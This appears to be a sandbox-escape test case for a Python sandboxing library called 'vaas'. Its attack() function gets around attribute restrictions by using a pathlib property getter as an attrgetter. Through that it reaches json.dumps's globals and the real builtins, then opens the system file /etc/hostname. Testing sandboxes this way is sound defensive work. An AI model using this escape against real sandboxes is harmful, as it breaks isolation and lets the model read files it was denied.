"""No app gets a reader of any attribute as the class of what stands in a library"s property."""

CLASS = "privates"
BOUNDARY = "both"
NEEDS = ("pathlib", "json", "vaas")


import json
import pathlib

import vaas


def attack():
    getter = pathlib.PurePosixPath.drive.fget
    kind = type(getter if type(getter).__name__ == "attrgetter" else pathlib.PurePosixPath.root.fget)
    if kind.__name__ != "attrgetter":
        return "ABSENT: this Python's paths have no such getters"
    builtins = kind("__globals__")(json.dumps)["__builtins__"]
    opened = builtins["open"] if isinstance(builtins, dict) else builtins.open
    return "ESCAPED: " + opened("/etc/hostname").read(20)
